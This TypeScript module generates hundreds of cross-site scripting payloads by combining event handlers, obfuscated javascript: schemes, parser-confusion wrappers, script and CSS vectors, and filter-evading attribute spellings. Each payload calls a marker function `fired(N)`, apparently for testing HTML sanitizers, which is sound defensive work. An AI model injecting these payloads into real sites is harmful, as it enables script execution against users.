/** Markup that tries to run `fired(number)`, by family. Made by combining what browsers do; none is copied from a list. */
export interface Payload {
  readonly family: string;
  readonly html: string;
}

const events =
  "onerror onload onclick ondblclick onmouseover onmouseenter onmousemove onmousedown onmouseup onpointerdown onpointerover onfocus onfocusin onblur onkeydown onkeyup oninput onchange ontoggle onbegin onanimationstart onwheel onscroll ondrag oncopy onpaste oncut onsubmit onauxclick oncontextmenu".split(
    " ",
  );
const elements: readonly ((attributes: string) => string)[] = [
  (a) => `<p ${a}>text</p>`,
  (a) => `<a href="https://news.example/" ${a}>link</a>`,
  (a) => `<img src=x ${a}>`,
  (a) => `<svg ${a}><circle r=9 /></svg>`,
  (a) => `<math ${a}><mi>x</mi></math>`,
  (a) => `<input autofocus ${a}>`,
  (a) => `<details open ${a}><summary>s</summary></details>`,
  (a) => `<blockquote tabindex=0 contenteditable ${a}>quote</blockquote>`,
  (a) => `<video src=x ${a}><source src=x ${a}></video>`,
];
const code = "fired(N)";
/** The scheme as browsers still read it. */
const schemes: readonly string[] = [
  "javascript:",
  "JavaScript:",
  "jAvAsCrIpT:",
  " javascript:",
  "\u0001javascript:",
  "java\tscript:",
  "java\nscript:",
  "java\rscript:",
  "javascript\t:",
  "java&Tab;script:",
  "java&NewLine;script:",
  "javascript&colon;",
  "javascript&#58;",
  "javascript&#x3a;",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:",
  "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:",
  "javascript://news.example/%0a",
  "javascript:/*https://*/",
  "data:text/html,<script>parent.",
  "vbscript:",
];
const carriers: readonly ((address: string) => string)[] = [
  (u) => `<a href="${u}">link</a>`,
  (u) => `<a href='${u}'><strong>link</strong></a>`,
  (u) => `<svg><a xlink:href="${u}"><text y=20>link</text></a></svg>`,
  (u) => `<math><mi xlink:href="${u}">link</mi></math>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<form action="${u}"><button>go</button></form>`,
  (u) => `<form><button formaction="${u}">go</button></form>`,
  (u) => `<area href="${u}"><map name=m><area href="${u}" shape=default></map><img usemap=#m src=x>`,
  (u) => `<object data="${u}"></object><embed src="${u}">`,
  (u) => `<img srcset="${u} 1x" src="${u}">`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<base href="${u}//"><a href="x">link</a>`,
  (u) => `<svg><animate attributeName=href values="${u}" /><a><text y=20>link</text></a></svg>`,
  (u) => `<svg><set attributeName=href to="${u}" /><a><text y=20>link</text></a></svg>`,
];
/** Places where a parser and a browser may not agree on where markup begins: what follows is text for one and markup for the other. */
const wrappers: readonly ((inner: string) => string)[] = [
  (x) => `<noscript><p title="</noscript>${x}"></noscript>`,
  (x) => `<template>${x}</template>`,
  (x) => `<svg><style><!--</style>${x}--></svg>`,
  (x) => `<svg></p><style><a id="</style>${x}">`,
  (x) => `<math><mtext><table><mglyph><style><!--</style>${x}`,
  (x) => `<math><annotation-xml encoding="text/html"><p>${x}</p></annotation-xml></math>`,
  (x) => `<svg><foreignObject><p>${x}</p></foreignObject></svg>`,
  (x) => `<svg><desc><p>${x}</desc></svg>`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<textarea><p title="</textarea>${x}">`,
  (x) => `<title><p title="</title>${x}">`,
  (x) => `<xmp><p title="</xmp>${x}">`,
  (x) => `<noembed><p title="</noembed>${x}">`,
  (x) => `<iframe><p title="</iframe>${x}"></iframe>`,
  (x) => `<!--><p>${x}<!-- -->`,
  (x) => `<!-- --!>${x}<!-- -->`,
  (x) => `<![CDATA[${x}]]>`,
  (x) => `<svg><![CDATA[><p>${x}]]></svg>`,
  (x) => `<?xml version="1.0" ${x}?>`,
  (x) => `<select><option>${x}</option></select>`,
  (x) => `<table><tr>${x}<td>cell</td></tr></table>`,
  (x) => `<a href="https://news.example/?a=&quot;&gt;${x.replaceAll('"', "&quot;")}">link</a>`,
  (x) => x.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (x) => x.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (x) => x.replaceAll("<", "＜").replaceAll(">", "＞"),
  (x) => x.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (x) => `<p>${x.replace("<", "<\u0000")}</p>`,
  (x) => `<p>${x.slice(0, -1)}`,
];
const inners = [
  `<img src=x onerror=${code}>`,
  `<svg onload=${code}>`,
  `<script>${code}</script>`,
  `<a href="javascript:${code}">link</a>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<details open ontoggle=${code}><summary>s</summary></details>`,
  `<input autofocus onfocus=${code}>`,
];
const scripts = [
  `<script>${code}</script>`,
  `<SCRIPT SRC="data:text/javascript,${code}"></SCRIPT>`,
  `<script/x>${code}</script>`,
  `<script\n>${code}</script\n>`,
  `<<script>${code}//<</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script xlink:href="data:,${code}" /></svg>`,
  `<script type=module>${code}</script>`,
  `<script src="data:,${code}"></script>`,
];
const styles = [
  `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${code}">text</p>`,
  `<p style="background:url(javascript:${code})">text</p>`,
  `<p style="width:expression(${code})">text</p>`,
  `<style>@import 'javascript:${code}';</style>`,
  `<link rel=stylesheet href="javascript:${code}">`,
  `<p style="behavior:url(#x);-moz-binding:url(data:,${code})">text</p>`,
];
/** Ways to write an attribute so that a careless filter does not see it. */
const spellings: readonly ((name: string) => string)[] = [
  (name) => `${name}="${code}"`,
  (name) => `${name.toUpperCase()}=${code}`,
  (name) => `/${name}='${code}'`,
  (name) => `x="&quot;"${name}=${code.replace("(", "&lpar;").replace(")", "&rpar;")}`,
];

/** All payloads, each with a number of its own in place of `N`. */
export function xssPayloads(): Payload[] {
  const made: Payload[] = [];
  const add = (family: string, html: string): void => {
    made.push({ family, html: html.replaceAll(/(?<![A-Za-z&])N(?![A-Za-z])/gu, String(made.length)) });
  };
  for (const [at, event] of events.entries()) {
    for (const [index, element] of elements.entries()) {
      const spell = spellings[(at + index) % spellings.length];
      if (spell) add("event handlers", element(spell(event)));
    }
  }
  for (const scheme of schemes) for (const carrier of carriers) add("addresses", carrier(`${scheme}${code}`));
  for (const wrap of wrappers) for (const inner of inners) add("parsers that disagree", wrap(inner));
  for (const wrap of wrappers)
    for (const other of wrappers.slice(0, 12)) add("twice wrapped", wrap(other(inners[0] ?? "")));
  for (const script of scripts) add("scripts", script);
  for (const style of styles) add("styles", style);
  return made;
}
